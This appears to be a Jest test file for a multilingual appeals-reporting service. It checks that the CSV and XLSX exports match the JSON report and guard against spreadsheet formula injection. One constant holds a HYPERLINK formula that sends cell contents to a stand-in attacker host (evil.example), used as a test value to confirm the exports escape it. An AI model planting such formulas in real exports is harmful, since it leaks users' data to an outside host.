import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { insertPastAppeal } from './support/report-data';
import { startTestApp, TestApp } from './support/test-app';
import { buildWorld, World } from './support/world';

type Lang = 'kk' | 'ru' | 'en';
type Cell = string | number | null;
type JsonRow = Record<string, unknown> & { key: Record<string, unknown>; period: string | null };
type JsonSection = { from: string; to: string; rows: JsonRow[]; totals: Record<string, number | null> };
type JsonReport = JsonSection & { comparisons: JsonSection[] };

/** What a spreadsheet shows: the title lines, the header, and per window its heading, rows and totals line. */
interface Sheet {
  title: string[];
  header: Cell[];
  sections: { heading: Cell; rows: Cell[][]; totals: Cell[] }[];
}

/** The words the tests expect, written here independently of the service's catalogue. */
const WORDS: Record<Lang, { total: string; yes: string; no: string; comparison: string; title: string; branch: string; category: string; portal: string; mail: string }> = {
  ru: { total: 'Итого', yes: 'да', no: 'нет', comparison: 'Сравнение', title: 'Рассмотрение обращений', branch: 'Филиал', category: 'Категория', portal: 'Портал', mail: 'Почта' },
  kk: { total: 'Барлығы', yes: 'иә', no: 'жоқ', comparison: 'Салыстыру', title: 'Өтініштердің қаралуы', branch: 'Филиал', category: 'Санат', portal: 'Портал', mail: 'Пошта' },
  en: { total: 'Total', yes: 'yes', no: 'no', comparison: 'Comparison', title: 'Resolution of appeals', branch: 'Branch', category: 'Category', portal: 'Portal', mail: 'Mail' },
};
const RU_FIGURES = [
  'Поступило', 'Рассмотрено', 'Решено положительно', 'Разъяснено', 'Отказано', 'Оставлено без рассмотрения', 'Отозвано', 'На рассмотрении',
  'Просрочено', 'Отвечено в срок', 'Получено отзывов', 'Удовлетворены',
  'Доля положительных от рассмотренных', 'Доля положительных от поступивших', 'Доля отвеченных в срок', 'Доля удовлетворённых',
];
const INJECTION = '=HYPERLINK("http://evil.example/?d="&A1,"Нажмите")';

/** Splits parsed lines into title, header and sections: an empty line ends the title and each section. */
function sheetOf(lines: Cell[][]): Sheet {
  const empty = (l: Cell[]) => l.every((c) => c === '' || c === null);
  const blank = lines.findIndex(empty);
  const sections: Sheet['sections'] = [];
  let current: Cell[][] = [];
  let heading: Cell = null;
  const close = () => current.length && sections.push({ heading, rows: current.slice(0, -1), totals: current[current.length - 1] });
  for (const line of lines.slice(blank + 2)) {
    if (empty(line)) {
      close();
      current = [];
      heading = null;
    } else if (sections.length && heading === null && !current.length) heading = line[0];
    else current.push(line);
  }
  close();
  return { title: lines.slice(0, blank).map((l) => String(l[0])), header: lines[blank + 1], sections };
}

function csvSheet(body: Buffer, delimiter: ';' | ','): Sheet {
  const lines: string[][] = parse(body, { bom: true, delimiter, relax_column_count: false });
  return sheetOf(lines);
}

async function xlsxSheet(body: Buffer): Promise<{ sheet: ExcelJS.Worksheet; parsed: Sheet }> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(body);
  const sheet = book.worksheets[0];
  const width = sheet.columnCount;
  const lines: Cell[][] = [];
  for (let r = 1; r <= sheet.rowCount; r++) {
    const row = sheet.getRow(r);
    lines.push(
      Array.from({ length: width }, (_, i) => {
        const cell = row.getCell(i + 1);
        if (cell.isMerged && cell.master !== cell) return null;
        return (cell.value as Cell) ?? null;
      }),
    );
  }
  return { sheet, parsed: sheetOf(lines) };
}

/** A figure as a number: CSV text with a decimal comma or point, or an XLSX number. */
const figure = (cell: Cell): number | null => (cell === '' || cell === null ? null : typeof cell === 'number' ? cell : Number(cell.replace(',', '.')));

/**
 * The exported rows say what the JSON says: the same rows in the same order, the key in the
 * language, the period, every counter exactly and every share to four decimals.
 */
function expectSameAsJson(parsed: Sheet, json: JsonReport, lang: Lang, keyCells: (row: JsonRow) => Cell[], withPeriod: boolean) {
  const sections = [json, ...json.comparisons];
  expect(parsed.sections).toHaveLength(sections.length);
  sections.forEach((s, i) => {
    const out = parsed.sections[i];
    expect(out.heading).toBe(i === 0 ? null : `${WORDS[lang].comparison}: ${s.from} – ${s.to}`);
    expect(out.rows).toHaveLength(s.rows.length);
    // The figures in the order of the JSON's totals, which is the order of the columns.
    const names = Object.keys(s.totals);
    const figures = (cells: Cell[], from: Record<string, unknown>) => {
      const offset = cells.length - names.length;
      names.forEach((f, j) => {
        const value = from[f] as number | null;
        const got = figure(cells[offset + j]);
        if (value === null || !f.includes('Share')) expect([f, got]).toEqual([f, value]);
        else expect(got).toBeCloseTo(value, 4);
      });
    };
    s.rows.forEach((row, j) => {
      const keys = keyCells(row);
      expect(out.rows[j].slice(0, keys.length + (withPeriod ? 1 : 0))).toEqual([...keys, ...(withPeriod ? [row.period] : [])]);
      figures(out.rows[j], row);
    });
    expect(out.totals[0]).toBe(WORDS[lang].total);
    figures(out.totals, s.totals);
  });
}

/** Both reports as CSV and XLSX files in three languages, parsed back and held against the JSON. */
describe('report exports', () => {
  let t: TestApp;
  let w: World;
  let injectedBranch: string;
  let injectedCategory: string;
  const A = '/reports/resolution?from=2025-01-01&to=2025-03-31';

  beforeAll(async () => {
    t = await startTestApp();
    w = await buildWorld(t);
    const { branches: b, categories: c, agencies: g } = w;
    const base = { categoryId: c.housingRepair, agencyId: g.alaAkimat, channel: 'portal', type: 'complaint' } as const;
    await insertPastAppeal(t, { ...base, branchId: b.alaBos, receivedOn: '2025-01-15', status: 'closed', outcome: 'positive', deadlineState: 'met' });
    await insertPastAppeal(t, { ...base, branchId: b.alaBos, receivedOn: '2025-02-15', status: 'closed', outcome: 'rejected', deadlineState: 'missed' });
    await insertPastAppeal(t, { ...base, branchId: b.alaBos, receivedOn: '2025-02-16', channel: 'mail', categoryId: c.health, status: 'closed', outcome: 'explained', deadlineState: 'met' });
    await insertPastAppeal(t, { ...base, branchId: b.astEsl, agencyId: g.astAkimat, receivedOn: '2025-03-15', status: 'routed' });
    await insertPastAppeal(t, { ...base, branchId: b.alaBos, receivedOn: '2024-02-15', status: 'closed', outcome: 'positive', deadlineState: 'met' });
    const session = await w.users.receptionAla.post('/receptions').send({
      branchId: b.alaBos, hostName: 'Депутат Мажилиса', hostType: 'majilis_deputy', startsAt: '2025-02-03T10:00:00+05:00', format: 'in_person',
    });
    expect(session.status).toBe(201);
    await w.users.receptionAla.post(`/receptions/${session.body.id}/visits`).send({ visitor: { fullName: 'Әсел Нұрланқызы' }, result: 'consultation' }).expect(201);

    // Names a spreadsheet would take for formulas, as an admin (or an import) could give them.
    injectedBranch = (await w.admin.post('/branches').send({ code: 'INJ', name: '-1+2', level: 'district', parentId: b.ast })).body.id;
    injectedCategory = (await w.admin.post('/categories').send({ code: 'INJ', names: { kk: '@SUM(1+1)', ru: INJECTION, en: '+1+1' } })).body.id;
    expect(injectedBranch).toBeDefined();
    expect(injectedCategory).toBeDefined();
    await insertPastAppeal(t, { ...base, branchId: injectedBranch, categoryId: injectedCategory, receivedOn: '2025-06-10', status: 'registered' });
  });
  afterAll(() => t.close());

  const download = (path: string, headers: Record<string, string> = {}) => {
    let req = w.admin.get(path);
    for (const [k, v] of Object.entries(headers)) req = req.set(k, v);
    return req.buffer(true).parse((res, done) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => done(null, Buffer.concat(chunks)));
    });
  };
  const json = async (path: string): Promise<JsonReport> => {
    const res = await w.admin.get(path);
    expect(res.status).toBe(200);
    return res.body;
  };
  const branchKey = (lang: Lang) => (r: JsonRow) => [r.key.code as string, r.key.name as string, r.key.own ? WORDS[lang].yes : WORDS[lang].no];
  const categoryKey = (lang: Lang) => (r: JsonRow) => [r.key.code as string, (r.key.names as Record<Lang, string>)[lang], r.key.own ? WORDS[lang].yes : WORDS[lang].no];

  describe.each(['ru', 'kk', 'en'] as const)('in %s', (lang) => {
    const delimiter = lang === 'en' ? ',' : ';';

    it('writes the CSV that reads back as the JSON report, comparisons below with their window line', async () => {
      const query = `${A}&compareYears=1`;
      const res = await download(`${query}&format=csv&lang=${lang}`);
      expect(res.status).toBe(200);
      expect(res.headers['content-type']).toMatch(/^text\/csv/);
      expect(res.headers['content-language']).toBe(lang);
      expect(res.headers['content-disposition']).toBe('attachment; filename="resolution-2025-01-01_2025-03-31.csv"');
      const body = res.body as Buffer;
      expect([...body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      expect(body.toString('utf8').split('\r\n').length).toBeGreaterThan(10);
      expect(body.toString('utf8').replace(/\r\n/g, '')).not.toMatch(/\n/);
      const parsed = csvSheet(body, delimiter);
      expect(parsed.title[0]).toBe(WORDS[lang].title);
      expect(parsed.title[1]).toContain('2025-01-01 – 2025-03-31');
      expect(parsed.title).toContainEqual(`${WORDS[lang].branch}: KZ — Центральный аппарат`);
      expect(parsed.title[parsed.title.length - 1]).toMatch(/^\S.*: \d{4}-\d\d-\d\d \d\d:\d\d \(Asia\/Almaty\)$/);
      expect(parsed.header.slice(0, 2)).toEqual(['Код', WORDS[lang].branch].map((h) => (lang === 'en' && h === 'Код' ? 'Code' : h)));
      if (lang === 'ru') expect(parsed.header.slice(3)).toEqual(RU_FIGURES);
      expectSameAsJson(parsed, await json(query), lang, branchKey(lang), false);
    });

    it('writes the XLSX that reads back as the JSON report, by category and month with names in the language', async () => {
      const query = `${A}&groupBy=category&interval=month&compareYears=1`;
      const res = await download(`${query}&format=xlsx&lang=${lang}`);
      expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
      expect(res.headers['content-disposition']).toBe('attachment; filename="resolution-2025-01-01_2025-03-31.xlsx"');
      const { parsed } = await xlsxSheet(res.body as Buffer);
      expect(parsed.title[0]).toBe(WORDS[lang].title);
      expect(parsed.header[1]).toBe(WORDS[lang].category);
      const report = await json(query);
      expect(report.rows.map((r) => r.period)).toContain('2025-03');
      expectSameAsJson(parsed, report, lang, categoryKey(lang), true);
      // The same CSV, for the category names in the language.
      const csv = csvSheet((await download(`${query}&format=csv&lang=${lang}`)).body as Buffer, delimiter);
      expectSameAsJson(csv, report, lang, categoryKey(lang), true);
    });

    it('translates channels and names the filters in the title block', async () => {
      const query = `${A}&groupBy=channel&channel=portal,mail&categoryId=${w.categories.health}&type=complaint`;
      const parsed = csvSheet((await download(`${query}&format=csv&lang=${lang}`)).body as Buffer, delimiter);
      const report = await json(query);
      expect(report.rows.map((r) => r.key.channel)).toEqual(['mail']);
      expectSameAsJson(parsed, report, lang, (r) => [WORDS[lang][r.key.channel as 'mail']], false);
      const title = parsed.title.join('\n');
      expect(title).toContain(`${WORDS[lang].portal}, ${WORDS[lang].mail}`);
      expect(title).toContain({ ru: 'Здравоохранение', kk: 'Денсаулық сақтау', en: 'Healthcare' }[lang]);
      expect(title).toContain({ ru: 'Жалоба', kk: 'Шағым', en: 'Complaint' }[lang]);
    });
  });

  it('defaults the language to Accept-Language, else Russian, and the separator to the language', async () => {
    const english = await download(`${A}&format=csv`, { 'Accept-Language': 'en-US,en;q=0.9' });
    expect(english.headers['content-language']).toBe('en');
    expect(csvSheet(english.body as Buffer, ',').title[0]).toBe('Resolution of appeals');
    const kazakh = await download(`${A}&format=csv`, { 'Accept-Language': 'kk-KZ, ru;q=0.8' });
    expect(csvSheet(kazakh.body as Buffer, ';').title[0]).toBe('Өтініштердің қаралуы');
    const plain = await download(`${A}&format=csv`);
    expect(plain.headers['content-language']).toBe('ru');
    expect(csvSheet(plain.body as Buffer, ';').title[0]).toBe('Рассмотрение обращений');
    const overridden = await download(`${A}&format=csv&lang=ru`, { 'Accept-Language': 'en' });
    expect(overridden.headers['content-language']).toBe('ru');
  });

  it('writes semicolons with decimal commas for ru and kk, commas with decimal points for en or sep=comma', async () => {
    // 2025-01-01..2025-03-31: 4 received, 3 decided (1 positive, 1 explained, 1 rejected), 1 pending, 2 on time,
    // no feedback (so the satisfied share is empty).
    const totalsLine = (body: Buffer) => body.toString('utf8').split('\r\n').find((l) => l.startsWith('Итого') || l.startsWith('Total'))!;
    const ru = (await download(`${A}&format=csv&groupBy=none`)).body as Buffer;
    expect(totalsLine(ru)).toBe('Итого;4;3;1;1;1;0;0;1;0;2;0;0;0,3333;0,25;0,6667;');
    const comma = (await download(`${A}&format=csv&groupBy=none&sep=comma`)).body as Buffer;
    expect(totalsLine(comma)).toBe('Итого,4,3,1,1,1,0,0,1,0,2,0,0,0.3333,0.25,0.6667,');
    const en = (await download(`${A}&format=csv&groupBy=none&lang=en`)).body as Buffer;
    expect(totalsLine(en)).toBe('Total,4,3,1,1,1,0,0,1,0,2,0,0,0.3333,0.25,0.6667,');
    const enSemicolon = (await download(`${A}&format=csv&groupBy=none&lang=en&sep=semicolon`)).body as Buffer;
    expect(totalsLine(enSemicolon)).toBe('Total;4;3;1;1;1;0;0;1;0;2;0;0;0,3333;0,25;0,6667;');
  });

  it('writes a period with nothing received as a row of zeros', async () => {
    const query = '/reports/resolution?from=2024-11-01&to=2025-03-31&groupBy=none&interval=quarter';
    const parsed = csvSheet((await download(`${query}&format=csv`)).body as Buffer, ';');
    expect(parsed.sections[0].rows.map((r) => r.slice(0, 4))).toEqual([
      ['2024-Q4', '0', '0', '0'],
      ['2025-Q1', '4', '3', '1'],
    ]);
    expect(parsed.sections[0].rows[0].slice(-3)).toEqual(['', '', '']);
    expectSameAsJson(parsed, await json(query), 'ru', () => [], true);
  });

  it('lays the XLSX out for reading: merged title, bold frozen header, fitting widths, typed numbers and percentages', async () => {
    const res = await download(`${A}&format=xlsx&compareYears=1`);
    const { sheet, parsed } = await xlsxSheet(res.body as Buffer);
    const headerRow = parsed.title.length + 2;
    const width = parsed.header.length;
    expect(width).toBe(3 + RU_FIGURES.length);
    expect(sheet.name).toBe('Рассмотрение обращений');
    for (let r = 1; r <= parsed.title.length; r++) {
      expect(sheet.getCell(r, width).isMerged).toBe(true);
      expect(sheet.getCell(r, width).master.address).toBe(`A${r}`);
    }
    expect(sheet.getRow(1).font?.bold).toBe(true);
    expect(sheet.getRow(headerRow).font?.bold).toBe(true);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: headerRow });
    const name = sheet.getColumn(2);
    expect(name.width).toBeGreaterThanOrEqual('Алматинский городской филиал'.length);
    expect(name.width).toBeLessThanOrEqual(60);
    const share = sheet.getColumn(width);
    expect(share.width).toBeLessThan('Доля отвеченных в срок'.length);
    const firstRow = sheet.getRow(headerRow + 1);
    expect(firstRow.getCell(4).value).toBe(3);
    expect(firstRow.getCell(4).type).toBe(ExcelJS.ValueType.Number);
    expect(firstRow.getCell(width - 2).value).toBe(1 / 3);
    expect(firstRow.getCell(width - 2).numFmt).toBe('0.0%');
    const totals = sheet.getRow(headerRow + 1 + parsed.sections[0].rows.length);
    expect(totals.getCell(1).value).toBe('Итого');
    expect(totals.font?.bold).toBe(true);
  });

  it('writes names a spreadsheet would run as formulas with a leading quote, in CSV and XLSX alike', async () => {
    const query = '/reports/resolution?from=2025-06-01&to=2025-06-30';
    const csvRu = (await download(`${query}&format=csv&groupBy=category`)).body as Buffer;
    const rows = csvSheet(csvRu, ';').sections[0].rows;
    expect(rows.map((r) => r[1])).toEqual([`'${INJECTION}`]);
    const kk = csvSheet((await download(`${query}&format=csv&groupBy=category&lang=kk`)).body as Buffer, ';');
    expect(kk.sections[0].rows[0][1]).toBe("'@SUM(1+1)");
    const en = csvSheet((await download(`${query}&format=csv&groupBy=category&lang=en`)).body as Buffer, ',');
    expect(en.sections[0].rows[0][1]).toBe("'+1+1");
    const branches = csvSheet((await download(`${query}&format=csv&branchId=${w.branches.ast}`)).body as Buffer, ';');
    expect(branches.sections[0].rows.map((r) => r.slice(0, 2))).toEqual([['AST-ESL', 'Есильский районный филиал'], ['INJ', "'-1+2"]]);

    const { sheet, parsed } = await xlsxSheet((await download(`${query}&format=xlsx&groupBy=category`)).body as Buffer);
    expect(parsed.sections[0].rows[0][1]).toBe(`'${INJECTION}`);
    const cell = sheet.getRow(parsed.title.length + 3).getCell(2);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.formula).toBeUndefined();
    // A filter naming the category puts it in the title block after its label, which is safe as it is.
    const titled = csvSheet((await download(`${query}&format=csv&groupBy=none&categoryId=${injectedCategory}`)).body as Buffer, ';');
    expect(titled.title).toContainEqual(`Категория: ${INJECTION}`);
  });

  it('exports the receptions report in both formats', async () => {
    const csv = await download('/reports/receptions?from=2025-01-01&to=2025-03-31&format=csv');
    expect(csv.headers['content-disposition']).toBe('attachment; filename="receptions-2025-01-01_2025-03-31.csv"');
    const parsed = csvSheet(csv.body as Buffer, ';');
    expect(parsed.title[0]).toBe('Личные приёмы');
    expect(parsed.header).toEqual(['Кто ведёт приём', 'Приёмы', 'Посетители', 'Обращения', 'Рассмотрено', 'Решено положительно', 'Доля положительных']);
    expect(parsed.sections[0].rows).toEqual([['Депутат Мажилиса', '1', '1', '0', '0', '0', '']]);
    expect(parsed.sections[0].totals).toEqual(['Итого', '1', '1', '0', '0', '0', '']);
    const xlsx = await download('/reports/receptions?from=2025-01-01&to=2025-03-31&format=xlsx&groupBy=branch&lang=en');
    const { parsed: book } = await xlsxSheet(xlsx.body as Buffer);
    expect(book.title[0]).toBe('Reception sessions');
    expect(book.sections[0].rows[0]).toEqual(['ALA', 'Алматинский городской филиал', 'no', 1, 1, 0, 0, 0, null]);
  });

  it('keeps the JSON answer by default and refuses an unknown format, language or separator', async () => {
    expect((await w.admin.get(A)).headers['content-type']).toMatch(/^application\/json/);
    for (const [query, field] of [['format=pdf', 'format'], ['lang=de', 'lang'], ['sep=tab', 'sep']]) {
      const res = await w.admin.get(`${A}&${query}`);
      expect(res.status).toBe(400);
      expect(res.body.details.map((d: { field: string }) => d.field)).toContain(field);
    }
  });
});
